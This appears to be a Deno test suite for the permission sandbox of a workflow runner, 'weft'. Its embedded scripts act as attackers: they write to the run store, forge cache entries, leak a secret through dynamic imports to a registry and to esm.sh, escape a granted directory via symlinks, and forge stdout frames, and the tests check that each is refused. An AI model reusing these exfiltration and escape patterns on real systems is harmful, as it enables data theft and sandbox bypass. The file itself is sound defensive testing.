// Runs hold exactly their grants, end to end through the CLI: the store is
// outside the run's process (a task cannot open it, and one script's cache
// entries never reach another's runs); by default each task that declares a
// permission runs in a Worker holding only its own while workflow and flow
// code, top-level code and its timers hold nothing; module loading is a
// permission (a dynamic import reaches no host the task was not granted);
// symlinks that leave a granted tree refuse the run; --no-isolate shares
// one process and says so.

import assert from "node:assert/strict";
import { deno, ROOT, tempDir } from "./_helpers.ts";

const MOD = `${ROOT}/mod.ts`;

function weft(args: string[], options: { cwd?: string; env?: Record<string, string> } = {}) {
  return deno(["run", "-A", `${ROOT}/cli.ts`, ...args], {
    ...options,
    env: { WEFT_CACHE_DIR: `${options.cwd ?? ROOT}/.compile-cache`, ...options.env },
  });
}

Deno.test("a task cannot open the store: the run's process holds no grant on it", async () => {
  await using tmp = await tempDir();
  const db = `${tmp.dir}/weft.db`;
  await Deno.writeTextFile(
    `${tmp.dir}/poke.ts`,
    `import { flow, task, wait } from "${MOD}";
import { DatabaseSync } from "node:sqlite";
const poke = task(function poke(path: string) {
  const db = new DatabaseSync(path);
  db.exec("UPDATE runs SET status = 'failed'");
  return "poked";
});
export const main = flow(async function* main(path: string) { return yield* wait(poke(path)); });
`,
  );
  for (const mode of [[], ["--no-isolate"]]) {
    const out = await weft(
      ["run", "poke.ts", "--input", `path=${db}`, "--store", `sqlite:${db}`, ...mode],
      { cwd: tmp.dir },
    );
    assert.equal(out.code, 1, out.stderr);
    assert.match(
      out.stderr,
      new RegExp(
        `Task 'poke' \\(node 'poke'\\) was refused read access to "${db}", which it does not declare`,
      ),
    );
    assert.doesNotMatch(out.stderr, /grant .*weft\.db/, "the plan grants nothing on the store");
  }
  // The runs were recorded (by the parent) and not rewritten.
  const runs = await weft(["runs", "--json", "--store", `sqlite:${db}`], { cwd: tmp.dir });
  assert.equal(runs.code, 0, runs.stderr);
  const statuses = runs.stdout.trim().split("\n").map((l) => JSON.parse(l).status);
  assert.deepEqual(statuses, ["failed", "failed"]);
});

Deno.test("no thread of a run reads a store that lies in weft's own directory (a checkout of weft, where its examples run)", async () => {
  await using tmp = await tempDir();
  // The default store of a run started in a checkout of weft is inside it;
  // the run's threads read weft's modules, file by file, and nothing else there.
  const dir = `${ROOT}/.weft/sandbox-${crypto.randomUUID()}`;
  await Deno.mkdir(dir, { recursive: true });
  try {
    const db = `${dir}/weft.db`;
    await Deno.writeTextFile(
      `${tmp.dir}/peek.ts`,
      `import { flow, task, wait } from "${MOD}";
const look = (path: string) => {
  try { return "READ " + Deno.readFileSync(path).length; } catch (e) { return "REFUSED " + (e as Error).name; }
};
const peek = task(function peek(path: string) { return look(path); });
const peekInWorker = task({ name: "peekInWorker", permissions: { env: ["WEFT_NONE"] } }, (path: string) => look(path));
export const main = flow(async function* main(path: string) {
  return [look(path), yield* wait(peek(path)), yield* wait(peekInWorker(path))];
});
`,
    );
    // (No task of inline.ts declares a permission: its driver's work runs in the child's own thread.)
    await Deno.writeTextFile(
      `${tmp.dir}/inline.ts`,
      `import { flow, task, wait } from "${MOD}";
const look = (path: string) => {
  try { return "READ " + Deno.readFileSync(path).length; } catch (e) { return "REFUSED " + (e as Error).name; }
};
const peek = task(function peek(path: string) { return look(path); });
export const main = flow(async function* main(path: string) {
  return [look(path), yield* wait(peek(path))];
});
`,
    );
    for (const [script, refused] of [["peek.ts", 3], ["inline.ts", 2]] as const) {
      for (const mode of [[], ["--no-isolate"]]) {
        const out = await weft(
          ["run", script, "--input", `path=${db}`, "--store", `sqlite:${db}`, ...mode],
          { cwd: tmp.dir },
        );
        assert.equal(out.code, 0, out.stderr);
        assert.deepEqual(
          JSON.parse(out.stdout),
          Array(refused).fill("REFUSED NotCapable"),
          `${script} ${mode.join(" ")}`,
        );
      }
    }
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("one script's cache entries never reach another script's runs", async () => {
  await using tmp = await tempDir();
  const store = ["--store", `sqlite:${tmp.dir}/weft.db`];
  const task = (value: string) =>
    `import { flow, task, wait } from "${MOD}";
const price = task({ name: "price", cache: true, version: "1" }, (item: string) => ${value});
export const main = flow(async function* main(item: string) { return yield* wait(price(item)); });
`;
  // The attacker defines a task of the same name and version, forging its value.
  await Deno.writeTextFile(`${tmp.dir}/forger.ts`, task(`"FORGED " + item`));
  await Deno.writeTextFile(`${tmp.dir}/shop.ts`, task(`"10 EUR for " + item`));
  const forged = await weft(["run", "forger.ts", "--input", "item=apple", ...store], {
    cwd: tmp.dir,
  });
  assert.equal(forged.code, 0, forged.stderr);
  const shop = await weft(["run", "shop.ts", "--input", "item=apple", ...store], { cwd: tmp.dir });
  assert.equal(shop.code, 0, shop.stderr);
  assert.equal(JSON.parse(shop.stdout), "10 EUR for apple");
  assert.doesNotMatch(shop.stderr, /cached/);
  // Within one script the cache works as before.
  const again = await weft(["run", "shop.ts", "--input", "item=apple", ...store], { cwd: tmp.dir });
  assert.equal(JSON.parse(again.stdout), "10 EUR for apple");
  assert.match(again.stderr, /= price \(cached\)/);
});

Deno.test("per-task grants: a flow body's I/O fails with PermissionDeniedError saying to move it into a task", async () => {
  await using tmp = await tempDir();
  await Deno.writeTextFile(`${tmp.dir}/data.txt`, "secret");
  await Deno.writeTextFile(
    `${tmp.dir}/body.ts`,
    `import { flow, task, wait } from "${MOD}";
const reader = task({ name: "reader", permissions: { read: ["./data.txt"] } }, () => Deno.readTextFileSync("data.txt"));
const echo = task(function echo(s: string) { return s; });
export const main = flow(async function* main() {
  yield* wait(reader());
  // The body reads what only the task was granted, and passes it on.
  return yield* wait(echo(Deno.readTextFileSync("data.txt")));
});
`,
  );
  const out = await weft(["run", "body.ts", "--store", "memory"], { cwd: tmp.dir });
  assert.equal(out.code, 1, out.stderr);
  assert.match(
    out.stderr,
    /'main' was refused read access to "data\.txt" in its own code: workflow and flow bodies are control code and run with no permissions; move the read into a task that declares permissions: \{ read: \["data\.txt"\] \} and call the task from the flow/,
  );
  assert.match(out.stderr, /mode per-task \(the default\)/);
  assert.equal(out.stdout, "");
  // --no-isolate: one process with the union, as the plan says.
  const shared = await weft(["run", "body.ts", "--store", "memory", "--no-isolate"], {
    cwd: tmp.dir,
  });
  assert.equal(shared.code, 0, shared.stderr);
  assert.equal(JSON.parse(shared.stdout), "secret");
  assert.match(shared.stderr, /mode --no-isolate: one process holds the union below/);
});

Deno.test("per-task grants: top-level code and its timers get nothing, in the driver and in task Workers", async () => {
  await using tmp = await tempDir();
  await Deno.writeTextFile(`${tmp.dir}/data.txt`, "secret");
  await Deno.writeTextFile(
    `${tmp.dir}/timer.ts`,
    `import { flow, task, wait } from "${MOD}";
// Passes compile (the loader returns before it fires), then tries at run time.
setTimeout(() => {
  try {
    Deno.writeTextFileSync("leak.txt", Deno.readTextFileSync("data.txt"));
    console.error("TIMER WROTE");
  } catch (e) {
    console.error("TIMER REFUSED " + (e as Error).name);
  }
}, 200);
const slow = task({ name: "slow", permissions: { read: ["./data.txt"], write: ["./leak.txt"] } },
  async () => { await new Promise((r) => setTimeout(r, 1000)); return Deno.readTextFileSync("data.txt").length; });
export const main = flow(async function* main() { return yield* wait(slow()); });
`,
  );
  const out = await weft(["run", "timer.ts", "--store", "memory"], { cwd: tmp.dir });
  assert.equal(out.code, 0, out.stderr);
  assert.equal(JSON.parse(out.stdout), 6);
  // Once (in the driver), refused; never again in the task's Worker, which holds the grant.
  assert.equal(out.stderr.match(/TIMER REFUSED NotCapable/g)?.length, 1, out.stderr);
  assert.doesNotMatch(out.stderr, /TIMER WROTE/);
  assert.equal(await Deno.stat(`${tmp.dir}/leak.txt`).catch(() => null), null);
});

Deno.test("per-task grants: tasks that declare the same grant share a pool of Workers, reused call after call; tasks that declare nothing run in the driver", async () => {
  await using tmp = await tempDir();
  await Deno.writeTextFile(
    `${tmp.dir}/pool.ts`,
    `import { all, flow, task, wait } from "${MOD}";
// One id per thread that imports the script: the driver and each task Worker.
const me = crypto.randomUUID();
const free = task(function free() { return me; });
const a = task({ name: "a", permissions: { env: ["WEFT_A"] } }, () => me);
const sameAsA = task({ name: "sameAsA", permissions: { env: ["WEFT_A"] } }, () => me);
const b = task({ name: "b", permissions: { env: ["WEFT_B"] } }, () => me);
const slowA = task({ name: "slowA", permissions: { env: ["WEFT_A"] } }, async () => {
  await new Promise((r) => setTimeout(r, 50));
  return me;
});
export const main = flow(async function* main() {
  const out = { body: me, free: [] as string[], a: [] as string[], sameAsA: [] as string[], b: [] as string[], fan: [] as string[] };
  for (let i = 0; i < 5; i++) {
    out.free.push(yield* wait(free()));
    out.a.push(yield* wait(a()));
    out.sameAsA.push(yield* wait(sameAsA()));
    out.b.push(yield* wait(b()));
  }
  out.fan = yield* all(Array.from({ length: 16 }, () => slowA()));
  return out;
});
`,
  );
  const out = await weft(["run", "pool.ts", "--store", "memory", "--concurrency", "16"], {
    cwd: tmp.dir,
  });
  assert.equal(out.code, 0, out.stderr);
  const r = JSON.parse(out.stdout) as Record<string, string | string[]>;
  const ids = (k: string) => new Set(r[k] as string[]);
  // Tasks that declare nothing run in the driver, with the flow body.
  assert.deepEqual([...ids("free")], [r.body]);
  // One Worker per set, reused call after call, shared by the tasks of one set.
  assert.equal(ids("a").size, 1);
  assert.deepEqual([...ids("sameAsA")], [...ids("a")]);
  assert.equal(ids("b").size, 1);
  assert.notEqual([...ids("b")][0], [...ids("a")][0]);
  assert.ok(!ids("a").has(r.body as string) && !ids("b").has(r.body as string));
  // Calls at once spread over at most one Worker per core, the first one among them.
  const fan = ids("fan");
  assert.ok(fan.size >= 1 && fan.size <= Math.max(1, navigator.hardwareConcurrency), `${fan.size}`);
  assert.ok(fan.has([...ids("a")][0]!));
  assert.ok(!fan.has([...ids("b")][0]!) && !fan.has(r.body as string));
});

Deno.test("module loading is a permission: a task's dynamic import reaches no host it was not granted; the plan lists the import hosts", async () => {
  await using tmp = await tempDir();
  const requests: string[] = [];
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (req) => {
    requests.push(new URL(req.url).pathname);
    return new Response("export default 42;", {
      headers: { "content-type": "application/typescript" },
    });
  });
  const host = `127.0.0.1:${(server.addr as Deno.NetAddr).port}`;
  try {
    await Deno.writeTextFile(`${tmp.dir}/deno.json`, "{}");
    await Deno.writeTextFile(`${tmp.dir}/.npmrc`, `@leak:registry=http://${host}/\n`);
    await Deno.writeTextFile(`${tmp.dir}/data.txt`, "hunter2");
    await Deno.writeTextFile(
      `${tmp.dir}/dyn.ts`,
      `import { flow, task, wait } from "${MOD}";
const leak = task({ name: "leak", permissions: { read: ["./data.txt"] } }, async () => {
  const data = Deno.readTextFileSync("data.txt").trim();
  const refused: string[] = [];
  for (const s of ["npm:@leak/x-" + data + "@1.0.0", "http://${host}/h-" + data + ".ts", "https://esm.sh/e-" + data]) {
    try { await import(s); } catch { refused.push(s.split(":")[0]!); }
  }
  return refused;
});
const fetcher = task({ name: "fetcher", permissions: { import: ["${host}"] } }, async () =>
  (await import("http://${host}/granted-" + ["a", "b"].join("") + ".ts")).default);
export const main = flow(async function* main() { return yield* wait(leak()); });
export const fetches = flow({ tasks: [fetcher] }, async function* fetches() { return yield* wait(fetcher()); });
`,
    );
    for (const mode of [[], ["--no-isolate"]]) {
      const out = await weft(["run", "dyn.ts", "main", "--store", "memory", ...mode], {
        cwd: tmp.dir,
      });
      assert.equal(out.code, 0, out.stderr);
      // (Before: the registry of the project's .npmrc got /@leak%2fx-hunter2.)
      assert.deepEqual(requests, [], "no request reached the server");
      assert.deepEqual(JSON.parse(out.stdout), ["npm", "http", "https"]);
      assert.match(out.stderr, /weft: import nothing is fetched while it runs/);
    }
    assert.deepEqual(requests, [], "no request reached the server");
    const granted = await weft(["run", "dyn.ts", "fetches", "--store", "memory"], {
      cwd: tmp.dir,
    });
    assert.equal(granted.code, 0, granted.stderr);
    assert.equal(JSON.parse(granted.stdout), 42);
    assert.match(granted.stderr, new RegExp(`grant import ${host}\\s+← fetcher`));
    assert.match(
      granted.stderr,
      new RegExp(
        `weft: import modules are fetched while it runs, since fetcher declares import.*\\(${host}\\)`,
      ),
    );
    assert.deepEqual(requests, ["/granted-ab.ts"]);
  } finally {
    await server.shutdown();
  }
});

Deno.test("a symlink inside a granted directory that leads out of it refuses the run, listing it", async () => {
  await using tmp = await tempDir();
  await using away = await tempDir();
  await Deno.mkdir(`${tmp.dir}/data`);
  await Deno.writeTextFile(`${tmp.dir}/data/ok.txt`, "fine");
  await Deno.writeTextFile(`${away.dir}/secret.txt`, "secret");
  await Deno.writeTextFile(
    `${tmp.dir}/links.ts`,
    `import { flow, task, wait } from "${MOD}";
const reader = task({ name: "reader", permissions: { read: ["./data"] } }, (name: string) => Deno.readTextFileSync("data/" + name));
export const main = flow(async function* main(name: string) { return yield* wait(reader(name)); });
`,
  );
  const ok = await weft(["run", "links.ts", "--input", "name=ok.txt", "--store", "memory"], {
    cwd: tmp.dir,
  });
  assert.equal(ok.code, 0, ok.stderr);
  await Deno.symlink(`${away.dir}/secret.txt`, `${tmp.dir}/data/link.txt`);
  await Deno.symlink(away.dir, `${tmp.dir}/data/dir`);
  for (const name of ["link.txt", "dir/secret.txt"]) {
    const out = await weft(["run", "links.ts", "--input", `name=${name}`, "--store", "memory"], {
      cwd: tmp.dir,
    });
    assert.equal(out.code, 2, out.stderr);
    assert.equal(out.stdout, "");
    assert.match(
      out.stderr,
      /A granted directory holds symlinks that lead outside what its task is granted: .*data\/(link\.txt|dir) → .*\(task 'reader', read\)/,
    );
    assert.match(out.stderr, /remove the links, or grant their targets too/);
  }
  // Granting the target too makes the links stay inside what the task may read.
  await Deno.writeTextFile(
    `${tmp.dir}/links2.ts`,
    `import { flow, task, wait } from "${MOD}";
const reader = task({ name: "reader", permissions: { read: ["./data", "${away.dir}"] } }, (name: string) => Deno.readTextFileSync("data/" + name));
export const main = flow(async function* main(name: string) { return yield* wait(reader(name)); });
`,
  );
  const granted = await weft(
    ["run", "links2.ts", "--input", "name=link.txt", "--store", "memory"],
    { cwd: tmp.dir },
  );
  assert.equal(granted.code, 0, granted.stderr);
  assert.equal(JSON.parse(granted.stdout), "secret");
});

Deno.test("frames a script forges on stdout without the run's token are only its output", async () => {
  await using tmp = await tempDir();
  await Deno.writeTextFile(
    `${tmp.dir}/forge.ts`,
    `import { flow, task, wait } from "${MOD}";
const forge = (who: string) => {
  const fake = (m: unknown) => "\\u001eweft:" + "0".repeat(36) + ":" + JSON.stringify(m) + "\\n";
  const out = new TextEncoder().encode(
    fake({ t: "result", runId: "x", status: "succeeded", outputs: "FORGED BY " + who, errors: [], fromRecord: false, startedAt: 0 }) +
    fake({ t: "store", id: 1, m: { t: "finish", status: "failed", outputs: null, errors: [], finishedAt: 0 } }),
  );
  Deno.stdout.writeSync(out);
};
const inWorker = task({ name: "inWorker", permissions: { env: ["WEFT_NONE"] } }, () => { forge("a task Worker"); return 1; });
export const main = flow(async function* main() {
  forge("the flow body");
  return (yield* wait(inWorker())) + 1;
});
`,
  );
  const store = ["--store", `sqlite:${tmp.dir}/weft.db`, "--run-id", "honest"];
  for (const mode of [[], ["--no-isolate"]]) {
    const out = await weft(["run", "forge.ts", ...store, ...mode], { cwd: tmp.dir });
    assert.equal(out.code, 0, out.stderr);
    assert.equal(out.stdout, mode.length === 0 ? "2\n" : "2\n");
    assert.match(out.stderr, /FORGED BY the flow body/, "shown as the script's output");
    assert.match(out.stderr, /\\x1eweft:0+:/, "escaped");
    const shown = await weft(["show", "honest", "--json", "--store", `sqlite:${tmp.dir}/weft.db`], {
      cwd: tmp.dir,
    });
    assert.equal(JSON.parse(shown.stdout).status, "succeeded");
    await Deno.remove(`${tmp.dir}/weft.db`);
  }
});
